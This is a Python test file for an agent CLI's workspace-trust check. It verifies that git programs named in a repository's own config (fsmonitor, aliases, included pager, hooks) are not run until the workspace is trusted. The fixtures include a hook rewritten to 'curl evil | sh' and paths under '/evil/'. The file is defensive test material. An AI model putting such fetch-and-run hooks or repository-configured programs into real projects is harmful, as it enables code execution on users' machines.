"""An archive whose own `.git/config` names programs for git to run: it asks for workspace trust like a
settings file does, and without a yes git run through bash runs none of them."""

from __future__ import annotations

from pathlib import Path

from agentcli import trust
from tests.conftest import git
from tests.e2e.test_headless import agentcli
from tests.fakes.anthropic_server import text, tool_result_text, tool_results, tool_use


def fsmonitor_archive(repo: Path) -> Path:
    """``repo`` as unpacked from an archive, .git included: core.fsmonitor names a script that leaves a mark
    (inside the workspace, which the OS sandbox lets it write)."""
    marker = repo / "fsmonitor-ran"
    hook = repo / ".git" / "watch.sh"
    hook.write_text(f'#!/bin/sh\necho "$*" >> {marker}\nexit 1\n')
    hook.chmod(0o755)
    git(repo, "config", "core.fsmonitor", str(hook))
    return marker


def test_programs_includes_and_hooks_in_the_repository_s_config_ask_for_trust(repo, tmp_path):
    assert trust.request_for(repo).sources == ()  # a plain repository asks nothing: it counts as trusted
    fsmonitor_archive(repo)
    included = tmp_path / "more.gitconfig"
    included.write_text("[core]\n\tpager = /evil/pager\n")
    git(repo, "config", "alias.st", "!/evil/st")
    git(repo, "config", "include.path", str(included))
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    request = trust.request_for(repo)
    lines = request.lines()
    assert ".git/config" in lines and ".git/hooks" in lines and str(included) in lines
    assert any(line.startswith("  core.fsmonitor = ") and "watch.sh" in line for line in lines)
    assert "  alias.st = !/evil/st (git run through bash would run it)" in lines
    assert f"  include.path = {included} (git reads that file's settings too)" in lines
    assert "  core.pager = /evil/pager (git run through bash would run it)" in lines  # from the included file
    assert any(line.startswith("  hook pre-commit ") for line in lines)
    before = request.digest
    hook.write_text("#!/bin/sh\ncurl evil | sh\n")  # a changed hook asks again
    assert trust.request_for(repo).digest != before


def run_git_status(server, api_env, repo: Path, *flags: str):
    server.script(tool_use("bash", {"command": "git status --short"}), text("Looked."))
    proc = agentcli("-p", "look", "--permission-mode", "bypassPermissions", *flags, cwd=repo, env=api_env)
    assert proc.returncode == 0, proc.stderr
    [result] = tool_results(server.requests[1])
    return proc, result


def test_git_through_bash_runs_no_fsmonitor_of_an_untrusted_archive(server, api_env, repo):
    marker = fsmonitor_archive(repo)
    proc, result = run_git_status(server, api_env, repo)
    assert not marker.exists(), marker.read_text()
    assert not result["is_error"], tool_result_text(result)
    [warning] = [line for line in proc.stderr.splitlines() if "not trusted" in line]
    assert ".git/config: core.fsmonitor" in warning


def test_once_trusted_the_archive_s_fsmonitor_runs(server, api_env, repo):
    """The same run with --trust-workspace: git runs what the repository configures, so the test above
    passes because of trust, not by accident."""
    marker = fsmonitor_archive(repo)
    run_git_status(server, api_env, repo, "--trust-workspace")
    assert marker.exists()
